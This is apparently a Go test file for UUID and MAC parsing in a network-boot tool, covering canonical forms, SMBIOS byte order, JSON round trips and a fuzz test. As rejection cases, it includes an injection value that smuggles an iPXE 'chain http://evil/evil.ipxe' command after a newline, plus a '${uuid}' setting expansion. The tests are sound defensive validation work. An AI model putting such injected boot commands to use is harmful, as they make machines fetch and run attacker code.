package machine

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"
)

var testUUID = UUID{0x8f, 0x1b, 0x6b, 0x2c, 0x3a, 0x4d, 0x4e, 0x5f, 0x8a, 0x9b, 0x0c, 0x1d, 0x2e, 0x3f, 0x4a, 0x5b}

func TestParseUUID(t *testing.T) {
	for _, tc := range []struct {
		name, in string
		ok       bool
		notSet   bool
	}{
		{name: "canonical", in: "8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b", ok: true},
		{name: "upper case", in: "8F1B6B2C-3A4D-4E5F-8A9B-0C1D2E3F4A5B", ok: true},
		{name: "mixed case", in: "8f1B6b2C-3a4D-4e5F-8a9B-0c1D2e3F4a5B", ok: true},
		{name: "empty", in: ""},
		{name: "no hyphens", in: "8f1b6b2c3a4d4e5f8a9b0c1d2e3f4a5b"},
		{name: "braces", in: "{8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b}"},
		{name: "urn", in: "urn:uuid:8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b"},
		{name: "hyphen moved", in: "8f1b6b2c3-a4d-4e5f-8a9b-0c1d2e3f4a5b"},
		{name: "other separator", in: "8f1b6b2c:3a4d:4e5f:8a9b:0c1d2e3f4a5b"},
		{name: "not hex", in: "8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5g"},
		{name: "sign inside a group", in: "8f1b6b2c-3a4d-4e5f-+a9b-0c1d2e3f4a5b"},
		{name: "trailing newline", in: "8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5\n"},
		{name: "newline and a command", in: "x\nchain http://evil/evil.ipxe"},
		{name: "iPXE setting", in: "${uuid}"},
		{name: "NUL", in: "8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5\x00"},
		{name: "all zero: not set", in: "00000000-0000-0000-0000-000000000000", notSet: true},
		{name: "all FF: not set", in: "FFFFFFFF-ffff-FFFF-ffff-FFFFFFFFFFFF", notSet: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := ParseUUID(tc.in)
			if (err == nil) != tc.ok {
				t.Fatalf("ParseUUID(%q) = %v, %v; want ok=%v", tc.in, got, err, tc.ok)
			}
			if errors.Is(err, ErrUUIDNotSet) != tc.notSet {
				t.Errorf("ParseUUID(%q) error %v: errors.Is(ErrUUIDNotSet) = %v, want %v", tc.in, err, !tc.notSet, tc.notSet)
			}
			if tc.ok && got != testUUID {
				t.Errorf("ParseUUID(%q) = %v, want %v", tc.in, got, testUUID)
			}
			if !tc.ok && !got.IsZero() {
				t.Errorf("ParseUUID(%q) failed but returned %v", tc.in, got)
			}
		})
	}
}

// maxErrLen bounds a parse error's text, whatever the input: at most 32
// bytes are quoted, each as at most 4 characters (\xa8), with the
// message around them.
const maxErrLen = 256

// TestParseLongInput checks that a huge input is refused without being
// carried into the error: an attacker's 500 KB query value must not reach
// the log in full.
func TestParseLongInput(t *testing.T) {
	long := strings.Repeat("a", 500<<10)
	if _, err := ParseUUID(long); err == nil || len(err.Error()) > maxErrLen {
		t.Errorf("ParseUUID(500 KB) error = %.200v, want an error under %d bytes", err, maxErrLen)
	}
	if _, err := ParseMAC(long); err == nil || len(err.Error()) > maxErrLen {
		t.Errorf("ParseMAC(500 KB) error = %.200v, want an error under %d bytes", err, maxErrLen)
	}
	// 500 KB of a valid MAC's first 17 bytes and more: the length alone refuses it.
	if m, err := ParseMAC("52:54:00:ab:cd:ef" + strings.Repeat(":00", 170_000)); err == nil {
		t.Errorf("ParseMAC(a MAC and 500 KB more) = %v, want an error", m)
	}
	if m, err := ParseMAC("52:54:00:ab:cd:ef:"); err == nil {
		t.Errorf("ParseMAC(18 bytes) = %v, want an error", m)
	}
}

func TestUUIDFromSMBIOS(t *testing.T) {
	// The bytes QEMU's SMBIOS table holds for -uuid 8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b,
	// and that its iPXE ROM sends in option 97 (testdata of internal/proxydhcp).
	smbios := []byte{0x2c, 0x6b, 0x1b, 0x8f, 0x4d, 0x3a, 0x5f, 0x4e, 0x8a, 0x9b, 0x0c, 0x1d, 0x2e, 0x3f, 0x4a, 0x5b}
	for _, tc := range []struct {
		name   string
		in     []byte
		want   UUID
		notSet bool
	}{
		{name: "first three fields swapped", in: smbios, want: testUUID},
		{name: "15 bytes", in: smbios[:15]},
		{name: "17 bytes", in: append(append([]byte{}, smbios...), 0)},
		{name: "nil", in: nil},
		{name: "all zero", in: make([]byte, 16), notSet: true},
		{name: "all FF", in: []byte(strings.Repeat("\xff", 16)), notSet: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := UUIDFromSMBIOS(tc.in)
			if got != tc.want || (err == nil) != !tc.want.IsZero() || errors.Is(err, ErrUUIDNotSet) != tc.notSet {
				t.Errorf("UUIDFromSMBIOS(% x) = %v, %v; want %v (not set: %v)", tc.in, got, err, tc.want, tc.notSet)
			}
		})
	}
}

func TestUUIDForms(t *testing.T) {
	if got, want := testUUID.String(), "8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b"; got != want {
		t.Errorf("String() = %q, want %q", got, want)
	}
	if got := (UUID{}).String(); got != "" {
		t.Errorf("zero String() = %q, want \"\"", got)
	}
	if testUUID.IsZero() || !(UUID{}).IsZero() {
		t.Errorf("IsZero wrong for %v or the zero UUID", testUUID)
	}
	type rec struct {
		UUID UUID `json:"uuid"`
	}
	for _, tc := range []struct {
		name string
		v    rec
		want string
	}{
		{"set", rec{testUUID}, `{"uuid":"8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b"}`},
		{"zero", rec{}, `{"uuid":""}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			b, err := json.Marshal(tc.v)
			if err != nil || string(b) != tc.want {
				t.Fatalf("JSON = %s, %v; want %s", b, err, tc.want)
			}
			var back rec
			if err := json.Unmarshal(b, &back); err != nil || back != tc.v {
				t.Errorf("JSON round trip = %v, %v; want %v", back, err, tc.v)
			}
		})
	}
	var back rec
	if err := json.Unmarshal([]byte(`{"uuid":"8F1B6B2C-3A4D-4E5F-8A9B-0C1D2E3F4A5B"}`), &back); err != nil || back.UUID != testUUID {
		t.Errorf("JSON upper case = %v, %v; want %v", back.UUID, err, testUUID)
	}
	for _, bad := range []string{`{"uuid":"nope"}`, `{"uuid":"00000000-0000-0000-0000-000000000000"}`} {
		if err := json.Unmarshal([]byte(bad), &back); err == nil {
			t.Errorf("JSON accepted %s as %v", bad, back.UUID)
		}
	}
}

// FuzzParseUUID checks that every UUID that parses is set (neither the
// zero nor the all-FF value), prints in canonical form (36 bytes, lower
// case, hyphens at 8, 13, 18 and 23), equals its input up to case, and
// parses back to itself; and that a refused input, however long, yields
// a short error.
func FuzzParseUUID(f *testing.F) {
	for _, s := range []string{
		"8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b", "8F1B6B2C-3A4D-4E5F-8A9B-0C1D2E3F4A5B",
		"00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff",
		"8f1b6b2c3a4d4e5f8a9b0c1d2e3f4a5b", "{8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b}",
		"x\nchain http://evil/evil.ipxe", "${uuid}", "", "\r", "\x00",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		u, err := ParseUUID(s)
		if err != nil {
			if !u.IsZero() {
				t.Fatalf("ParseUUID(%q) failed (%v) but returned %v", s, err, u)
			}
			if len(err.Error()) > maxErrLen {
				t.Fatalf("ParseUUID(%d bytes) error of %d bytes", len(s), len(err.Error()))
			}
			return
		}
		c := u.String()
		if u.IsZero() || errors.Is(u.checkSet(), ErrUUIDNotSet) {
			t.Fatalf("ParseUUID(%q) = %q, a not-set value", s, c)
		}
		if len(c) != 36 || c != strings.ToLower(c) || !strings.EqualFold(c, s) {
			t.Fatalf("ParseUUID(%q).String() = %q, not the input in canonical form", s, c)
		}
		for i, r := range c {
			if (r == '-') != (i == 8 || i == 13 || i == 18 || i == 23) {
				t.Fatalf("String() = %q: %q at %d", c, r, i)
			}
		}
		back, err := ParseUUID(c)
		if err != nil || back != u {
			t.Fatalf("ParseUUID(%q) = %v, %v; want %v (from %q)", c, back, err, u, s)
		}
	})
}
